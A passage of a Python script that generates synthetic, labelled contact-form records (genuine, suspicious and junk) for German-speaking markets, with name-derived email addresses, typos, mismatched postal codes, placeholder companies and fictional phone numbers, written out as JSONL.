             "Siddharth": "sid", "Nikolaos": "nikos", "Benjamin": "ben", "Valentina": "vale"}
HANDLES = ["sonnenschein", "bergfex", "tigerlilly", "fussballfan", "bienchen", "kaffeetante", "wanderlust",
           "nordlicht", "sternchen", "gartenzwerg", "pianoman", "skipper"]
NEW_ADDRESSES = {
    "DE": [("Lindenallee 4", "26122", "Oldenburg"), ("Am Markt 3", "23552", "Lübeck"), ("Bahnhofstr. 8", "31134", "Hildesheim"),
           ("Hauptstraße 14", "97980", "Bad Mergentheim"), ("Kirchstraße 2", "49074", "Osnabrück"),
           ("Lange Straße 30", "27749", "Delmenhorst"), ("Markt 5", "08056", "Zwickau"), ("Schulstraße 9", "84028", "Landshut"),
           ("Eichenweg 12", "25524", "Itzehoe"), ("Ringstr. 3", "59494", "Soest"), ("Gartenstraße 21", "72764", "Reutlingen"),
           ("Mühlenweg 6", "32052", "Herford"), ("Burgstraße 11", "06484", "Quedlinburg"), ("Neuer Weg 2", "35390", "Gießen")],
    "AT": [("Hauptplatz 3", "8700", "Leoben"), ("Linzer Straße 12", "4400", "Steyr"), ("Rathausplatz 1", "2700", "Wiener Neustadt")],
    "CH": [("Bahnhofplatz 2", "3600", "Thun"), ("Rue de la Gare 5", "1950", "Sion"), ("Hauptgasse 14", "4500", "Solothurn")],
}
NEW_COMPANIES = {
    "DE": [("Bäckerei Öztürk", "baeckerei-oeztuerk.de"), ("Elektro Nguyen GmbH", "elektro-nguyen.de"),
           ("Steuerkanzlei Ahrens & Partner", "ahrens-partner.de"), ("Autohaus Brinkmann", "autohaus-brinkmann.de"),
           ("Ingenieurbüro Çetinkaya", "ib-cetinkaya.de"), ("Gärtnerei Meißner", "gaertnerei-meissner.de"),
           ("Nordlicht Software GmbH", "nordlicht-software.de"), ("Sanitär Thiessen KG", "thiessen-sanitaer.de"),
           ("Weingut Schwarzkopf", "weingut-schwarzkopf.de"), ("Pflegedienst Lindenhof", "pflege-lindenhof.de")],
    "AT": [("Holzbau Brandstätter GmbH", "holzbau-brandstaetter.at"), ("Café Hämmerle", "cafe-haemmerle.at")],
    "CH": [("Zbinden Treuhand AG", "zbinden-treuhand.ch"), ("Caflisch Bergbahnen AG", "caflisch.ch")],
    "INTL": [("Brightline Analytics Ltd", "brightline-analytics.co.uk"), ("Lumen Robotics", "lumenrobotics.io"),
             ("Papadakis Shipping", "papadakis-shipping.gr"), ("Ferrari Tessuti S.r.l.", "ferraritessuti.it")],
}
NEW_FREE_MAIL = ["gmail.com", "gmx.de", "web.de", "t-online.de", "outlook.com", "yahoo.com", "icloud.com",
                 "posteo.de", "gmx.at", "bluewin.ch", "hotmail.com", "proton.me"]
NEW_MESSAGES = ["Bitte um Rückruf am Vormittag.", "Was kostet die Wartung pro Jahr?",
                "Interessiert an der Schulung im Herbst, gibt es noch Plätze?", "Please send the brochure in English.",
                "Wir sind 40 Mitarbeitende und suchen ein CRM.", "Kann man das auch mieten?"]


def translit(text: str, umlauts: bool) -> str:
    text = text if not umlauts else text.replace("ü", "ue").replace("ö", "oe").replace("ä", "ae")
    return ascii_fold(text).lower()


def new_local(first: str, last: str) -> str:
    """How real people build their address from their name (and sometimes not at all)."""
    umlauts = rng2.random() < 0.7
    f = translit(first, umlauts).replace(" ", "").replace("'", "")
    f = f.split("-")[0] if rng2.random() < 0.5 else f.replace("-", "")
    ln = translit(last, umlauts).replace("'", "")
    lj = ln.replace(" ", "").replace("-", "") if rng2.random() < 0.6 else ln.split()[-1].split("-")[0]
    nick = NICKNAMES.get(first)
    year = str(rng2.randint(1950, 2004))
    patterns = ["{f}.{l}", "{f0}.{l}", "{f0}{l}", "{l}.{f0}", "{l}{f0}", "{f0}{l0}", "{f}{l}{y2}", "{f}_{l}",
                "{l}.{f}", "{f}-{l}", "{f}.{l}.{y}", "{f}", "{l}", "{f}{y2}"]
    if nick:
        patterns += ["{n}.{l}", "{n}{l}", "{n}{y2}"]
    if rng2.random() < 0.08:
        return rng2.choice(HANDLES) + rng2.choice(["", year[2:], str(rng2.randint(1, 99))])
    return rng2.choice(patterns).format(f=f, l=lj, f0=f[:1], l0=lj[:1], y=year, y2=year[2:], n=nick or f)


def new_phone(country: str) -> str | None:
    if country not in PHONES:
        return None
    return valid_phone_for(country)


def second_genuine(first: str, last: str, country: str) -> dict:
    record: dict = {"firstName": first, "lastName": last, "country": country,
                    "source": rng2.choice(SOURCES), "formId": rng2.choice(["contact", "quote", "webinar"])}
    if rng2.random() < 0.45:
        company, domain = rng2.choice(NEW_COMPANIES.get(country, NEW_COMPANIES["INTL"]))
        record["company"] = company
        record["email"] = f"{new_local(first, last)}@{domain}"
    else:
        record["email"] = f"{new_local(first, last)}@{rng2.choice(NEW_FREE_MAIL)}"
    if rng2.random() < 0.5 and (phone := new_phone(country)):
        record["phone"] = phone
    if country in NEW_ADDRESSES and rng2.random() < 0.7:
        street, postal, city = rng2.choice(NEW_ADDRESSES[country])
        record.update(street=street, postalCode=postal, city=city)
    elif country in ADDRESSES and rng2.random() < 0.5:
        street, postal, city = rng2.choice(ADDRESSES[country])
        record.update(postalCode=postal, city=city)
    if rng2.random() < 0.3:
        record["message"] = rng2.choice(NEW_MESSAGES)
    return record


def typo(word: str) -> str:
    """One slip of the finger after the first two letters: drop, double, swap or replace."""
    for _ in range(20):
        slipped = _slip(word)
        if fold_key(slipped) != fold_key(word):
            return slipped
    return word[:2] + word[3:]


def fold_key(word: str) -> str:
    return ascii_fold(word).lower()


def _slip(word: str) -> str:
    i = rng2.randrange(2, len(word) - 1)
    kind = rng2.choice(["drop", "swap", "replace", "double"])
    if kind == "drop":
        return word[:i] + word[i + 1:]
    if kind == "swap":
        return word[:i] + word[i + 1] + word[i] + word[i + 2:]
    if kind == "double":
        return word[:i] + word[i] + word[i:]
    return word[:i] + rng2.choice("aeinrstlh") + word[i + 1:]


# A postal code of another region for a German city (first digit of another Leitzone).
FAR_POSTAL = {"0": "80331", "1": "70173", "2": "90402", "3": "04107", "4": "01069", "5": "24103", "6": "18055",
              "7": "20095", "8": "28195", "9": "50667"}


def second_suspicious(base: dict, kind: str) -> dict:
    r = dict(base)
    first, last = r["firstName"], r["lastName"]
    if kind == "role_mailbox":
        company, domain = rng2.choice(NEW_COMPANIES["DE"] + NEW_COMPANIES["AT"])
        r.update(company=company, email=f"{rng2.choice(['info', 'kontakt', 'office', 'vertrieb', 'service', 'buero', 'empfang', 'einkauf', 'sales', 'hello', 'team', 'anfrage'])}@{domain}")
    elif kind == "other_person":
        other_first, other_last, _ = rng2.choice([p for p in NEW_PEOPLE + [(a, b, c) for c, ps in PEOPLE.items() for a, b in ps]
                                                 if p[0] != first and p[1] != last and len(p[0]) > 2 and len(p[1]) > 2])
        r["email"] = f"{translit(other_first, True).replace(' ', '')}.{translit(other_last, True).replace(' ', '')}@{rng2.choice(NEW_FREE_MAIL)}"
    elif kind == "random_local":
        letters = "bcdfghjklmnpqrstvwxzaeiou"
        if rng2.random() < 0.5:
            local = "".join(rng2.choice("bcdfghjklmnpqrstvwxz" + "aeiou") for _ in range(rng2.randint(8, 11)))
            while not any(c in "qxzvwjk" for c in local):
                local = "".join(rng2.choice(letters) for _ in range(rng2.randint(8, 11)))
        else:
            local = "".join(rng2.choice("abcdefghkmnpqrstuvwxyz") + str(rng2.randint(0, 9)) for _ in range(4))
        r["email"] = f"{local}@{rng2.choice(['gmail.com', 'outlook.com', 'gmx.de', 'web.de'])}"
    elif kind == "name_is_company":
        r["company"] = rng2.choice([f"{first} {last}", f"{last} {first}"])
    elif kind == "filler_company":
        r["company"] = rng2.choice(["privat", "-", "keine", "n/a", "Firma", "Privatperson", "keine Firma", "k.A.", "none", "/"])
    elif kind == "all_caps":
        r.update(firstName=first.upper(), lastName=last.upper())
    elif kind == "all_lower":
        r.update(firstName=first.lower(), lastName=last.lower())
    elif kind == "combined":
        if rng2.random() < 0.5:
            r.update(firstName=f"{first} {last}", lastName=last)
        else:
            r.update(firstName="", lastName=f"{last}, {first}")
    elif kind == "initials":
        r["firstName"] = first[0] + "."
        if rng2.random() < 0.4:
            r["lastName"] = last[0] + "."
    elif kind == "empty_message":
        r["message"] = rng2.choice(["test", "hallo", "Hallo", "asdf", ".", "-", "hi", "ok", "Test test", "?", "...", "xxx", "Hallo!"])
    elif kind == "city_typo":
        street, postal, city = rng2.choice([a for c in ("DE", "AT", "CH") for a in ADDRESSES[c] + NEW_ADDRESSES[c]
                                            if len(a[2]) >= 5 and " " not in a[2] and "-" not in a[2] and "/" not in a[2]])
        country = next(c for c in ("DE", "AT", "CH") if (street, postal, city) in ADDRESSES[c] + NEW_ADDRESSES[c])
        r.update(street=street, postalCode=postal, city=typo(city), country=country)
        r.pop("phone", None)
    elif kind == "postal_mismatch":
        street, postal, city = rng2.choice(ADDRESSES["DE"] + NEW_ADDRESSES["DE"])
        r.update(street=street, postalCode=FAR_POSTAL[postal[0]], city=city, country="DE")
        r.pop("phone", None)
    return r


def fictional_phone() -> tuple[str, str]:
    kind = rng2.choice(["nanp", "uk_mobile", "uk_london", "uk_drama", "au"])
    n = rng2.randint(0, 999)
    if kind == "nanp":
        return f"+1 {rng2.choice(['212', '415', '312', '617', '303', '206'])} 555 01{n % 100:02d}", "US"
    if kind == "uk_mobile":
        return f"07700 900{n:03d}", "GB"
    if kind == "uk_london":
        return f"020 7946 0{n:03d}", "GB"
    if kind == "uk_drama":
        return f"0161 496 0{n:03d}", "GB"
    return f"+61 491 570 {n:03d}", "AU"


PLACEHOLDER_COMPANIES = ["Irgendwas GmbH", "Test AG", "Musterfirma", "Beispiel GmbH", "Firma XY", "Testunternehmen",
                         "XYZ AG", "Egal GmbH", "Muster & Co. KG", "Demo Firma", "Sample Company Ltd", "Keine Ahnung GmbH",
                         "asdf GmbH", "Blabla AG"]


def second_junk(base: dict, kind: str) -> dict:
    r = dict(base)
    if kind == "fictional_phone":
        phone, country = fictional_phone()
        r.update(phone=phone, country=country)
        r.pop("city", None), r.pop("postalCode", None), r.pop("street", None)
        if rng2.random() < 0.5:
            r.pop("email", None)
    elif kind == "placeholder_company":
        r["company"] = rng2.choice(PLACEHOLDER_COMPANIES)
    elif kind == "repeated_phone":
        digit = str(rng2.randint(1, 9))
        r.update(phone=rng2.choice([f"+49 30 {digit * 7}", f"0171 {digit * 7}", f"089 {digit * 6}", f"+43 1 {digit * 7}"]))
        r["country"] = "AT" if r["phone"].startswith("+43") else "DE"
        r.pop("city", None), r.pop("postalCode", None), r.pop("street", None)
        r.pop("email", None)
    return r


SUSPICIOUS_KINDS = ["role_mailbox", "other_person", "random_local", "name_is_company", "filler_company", "all_caps",
                    "all_lower", "combined", "initials", "empty_message", "city_typo", "postal_mismatch"]
JUNK_KINDS = ["fictional_phone", "placeholder_company", "repeated_phone"]


def second_pass() -> tuple[list[dict], list[dict], list[dict]]:
    genuine = [second_genuine(*person) for person in NEW_PEOPLE for _ in range(2)]
    suspicious = [second_suspicious(second_genuine(*rng2.choice(NEW_PEOPLE)), kind)
                  for kind in SUSPICIOUS_KINDS for _ in range(7)]
    junk = [second_junk(second_genuine(*rng2.choice(NEW_PEOPLE)), kind) for kind in JUNK_KINDS for _ in range(10)]
    return genuine, suspicious, junk


def labelled(label: str, records: list[dict]) -> list[dict]:
    return [{"label": label, "input": record} for record in records]


def main() -> None:
    rows = (labelled("genuine", genuine_records() + LATER_GENUINE) + labelled("junk", JUNK + LATER_JUNK + RELABELLED_JUNK)
            + labelled("suspicious", SUSPICIOUS + LATER_SUSPICIOUS + RELABELLED_SUSPICIOUS))
    second_genuine_rows, second_suspicious_rows, second_junk_rows = second_pass()
    rows += [{**row, "pass": 2} for row in (labelled("genuine", second_genuine_rows)
                                           + labelled("suspicious", second_suspicious_rows)
                                           + labelled("junk", second_junk_rows))]
    rng.shuffle(rows)
    with OUT.open("w", encoding="utf-8") as fh:
        for n, row in enumerate(rows, start=1):
            fh.write(json.dumps({"id": f"L{n:04d}", **row}, ensure_ascii=False) + "\n")
    counts = {label: sum(r["label"] == label for r in rows) for label in ("genuine", "junk", "suspicious")}
    print(f"{OUT}: {len(rows)} records {counts}")


if __name__ == "__main__":
    main()
